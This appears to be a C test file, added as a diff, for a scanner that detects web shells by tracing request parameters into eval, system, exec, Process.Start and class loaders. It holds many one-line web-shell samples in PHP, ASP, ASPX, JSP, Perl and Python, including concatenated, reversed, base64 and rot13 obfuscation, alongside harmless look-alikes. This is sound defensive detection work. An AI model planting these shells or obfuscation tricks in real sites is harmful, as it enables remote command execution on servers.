@@ -1,0 +1,161 @@
+/* What the page format says of code: flows from the request to where they act, and twins that look
+ * alike and do nothing. The shells are put together here, from parts that are harmless alone. */
+#include "parsing.h"
+
+extern const struct format format_page;
+
+#define EVALUATES \
+    "ev"          \
+    "al"
+#define RUNS \
+    "sys"    \
+    "tem"
+
+static str field_of(struct parsing *r, const char *path, const char *text, const char *field)
+{
+    *r = (struct parsing){.look_for = str_of(field), .path = path};
+    parsing_all(r, &format_page, literal(text));
+    return r->last_value;
+}
+
+static void says(const char *path, const char *text, const char *field, const char *want)
+{
+    struct parsing r;
+    str got = field_of(&r, path, text, field);
+    if (!str_eq(got, str_of(want))) {
+        (void)fprintf(stderr, "%s: %s\n", field, text);
+    }
+    CHECK_STR(got, want);
+    parsing_done(&r);
+}
+
+static void a_parameter_is_followed_to_the_evaluator_of_each_language(void)
+{
+    says("a.php", "<?php @" EVALUATES "($_POST['code']);", "EvaluatesParameter", "code");
+    says("a.aspx",
+         "<%@ Page Language=\"Jscript\"%><%" EVALUATES "(Request.Item[\"klk\"],\"uns\"+\"afe\");%>",
+         "EvaluatesParameter", "klk");
+    says("a.aspx", "<%@ Page Language=\"Jscript\"%><%" EVALUATES "(Request.Item[\"klk\"]);%>",
+         "Language", "JScript");
+    says("a.asp",
+         "<%exe"
+         "cute request(\"z\")%>",
+         "EvaluatesParameter", "z");
+    says("a.py",
+         "#!/usr/bin/python\nimport cgi\nf = cgi.FieldStorage()\n" EVALUATES "(f.getvalue('q'))\n",
+         "EvaluatesParameter", "q");
+    says("a.cfm", "<cfset x = evaluate(form.q)>", "EvaluatesParameter", "q");
+}
+
+static void a_parameter_is_followed_to_a_process(void)
+{
+    says("a.jsp",
+         "<% Runtime.getRuntime().ex"
+         "ec(request.getParameter(\"cmd\")); %>",
+         "Executes", "parameter cmd");
+    says("a.aspx",
+         "<%@ Page Language=\"C#\" %><script runat=\"server\">void Go() { ProcessStartInfo i = new "
+         "ProcessStartInfo(); i.FileName = \"cm\" + \"d.exe\"; i.Arguments = \"/c \" + "
+         "Request.Form[\"c\"]; }</script>",
+         "Executes", "parameter c");
+    says("a.pl", "#!/usr/bin/perl\nuse CGI;\n$c = param('c');\n" RUNS "($c);\n", "Executes",
+         "parameter c");
+    says("a.php", "<?php echo `{$_GET['c']}`;", "Executes", "parameter c");
+}
+
+static void functions_of_the_page_hand_on_what_they_get(void)
+{
+    says("a.php", "<?php function go($c) { return " RUNS "($c); } go($_GET['x']);", "Executes",
+         "parameter x");
+    says("a.php", "<?php function get() { return $_COOKIE['x']; } $v = get(); " EVALUATES "($v);",
+         "Evaluates", "cookie x");
+    says("a.jsp",
+         "<%! class U extends ClassLoader { public Class g(byte[] b) { return super.define"
+         "Class(b, 0, b.length); } } %><% new U().g(new sun.misc.BASE64Decoder().decodeBuffer("
+         "request.getReader().readLine())); %>",
+         "Loads", "body");
+}
+
+static void names_put_together_are_read(void)
+{
+    says("a.php", "<?php $f = 'ass' . 'ert'; $f($_POST['x']);", "HiddenName", "assert");
+    says("a.php", "<?php $f = strrev('tressa'); $f($_POST['x']);", "Evaluates", "parameter x");
+    says("a.php", "<?php $f = str_replace('z', '', 'azsszerzt'); $f($_POST['x']);", "Evaluates",
+         "parameter x");
+    says("a.php", "<?php $s = '_PO' . 'ST'; " EVALUATES "(${$s}['x']);", "Disguise",
+         "hidden source");
+    says("a.php", "<?php array_map('ass' . 'ert', array($_POST['x']));", "Evaluates",
+         "parameter x");
+    says("a.aspx",
+         "<%@ Page Language=\"C#\" %><% \\u0050rocess.St"
+         "art(Request[\"c\"]); %>",
+         "Disguise", "escaped name");
+}
+
+static void code_that_is_packed_is_unpacked(void)
+{
+    /* base64 of: eva + l($_POST["x"]); and of the rot13 of it */
+    says("a.php", "<?php " EVALUATES "(base64_decode('ZXZhbCgk' . 'X1BPU1RbIngiXSk7'));",
+         "EvaluatesParameter", "x");
+    says("a.php", "<?php " EVALUATES "(str_rot13('rin' . 'y($_CBFG[\"x\"]);'));", "Layers", "1");
+    says("a.php",
+         "<?php function d($s) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= "
+         "chr(ord($s[$i]) ^ 7); } return $o; } $f = d('abc'); $f('x');",
+         "Decoded", "pass");
+}
+
+static void twins_that_do_no_harm_are_left_alone(void)
+{
+    says("a.php", "<?php // " EVALUATES "($_POST['x']);\necho '" EVALUATES "($_POST[x])';", "Flow",
+         "");
+    says("a.php", "<?php echo htmlspecialchars($_GET['x']); " EVALUATES "('return 1;');", "Flow",
+         "");
+    says("a.php", "<?php exec('convert ' . escapeshellarg($_GET['f']));", "Flow", "");
+    says("a.php", "<?php $n = (int)$_GET['n']; exec('head -n ' . $n);", "Flow", "");
+    says("a.php", "<?php $c = $_GET['c']; $c = 'date'; " RUNS "($c);", "Flow", "");
+    says("a.php", "<?php exec('convert ' . $_GET['f'] . ' out.png');", "Executes", "");
+    says("a.aspx", "<%@ Page Language=\"C#\" %><%= DataBinder.Eval(Container, Request[\"x\"]) %>",
+         "Executes", "");
+    says("a.jsp", "<% String s = request.getParameter(\"q\"); out.print(s); %>", "Flow", "");
+    says("a.asp",
+         "<% ' exe"
+         "cute request(\"z\")\nresponse.write request(\"z\") %>",
+         "Flow", "");
+    says("a.html.php", "<script>" EVALUATES "(document.cookie)</script>", "Flow", "");
+}
+
+/* Hostile code ends within its budget, and says so. */
+static void deep_code_ends(void)
+{
+    enum { DEEP = 100000 };
+    static const char *const units[] = {"(", "[",     "{",        "${",   "a(",
+                                        "!", "eval(", "\"{$a[\"", "if(1)"};
+    char *text = room(DEEP * 8 + 16);
+    for (size_t i = 0; i < ARRAY_LEN(units); i++) {
+        size_t len = strlen(units[i]), at = 5;
+        memcpy(text, "<?php", 5);
+        text[at++] = ' ';
+        memcpy(text + at, "$_GET;", 6);
+        at += 6;
+        for (size_t k = 0; k < DEEP; k++, at += len) {
+            memcpy(text + at, units[i], len);
+        }
+        struct parsing r = {.look_for = STR("Flow"), .path = "a.php"};
+        parsing_all(&r, &format_page, (bytes){(const uint8_t *)text, at});
+        CHECK_INT(r.events, 1);
+        parsing_done(&r);
+    }
+    free(text);
+}
+
+int main(void)
+{
+    RUN(a_parameter_is_followed_to_the_evaluator_of_each_language);
+    RUN(a_parameter_is_followed_to_a_process);
+    RUN(functions_of_the_page_hand_on_what_they_get);
+    RUN(names_put_together_are_read);
+    RUN(code_that_is_packed_is_unpacked);
+    RUN(twins_that_do_no_harm_are_left_alone);
+    RUN(deep_code_ends);
+    return kit_end();
+}
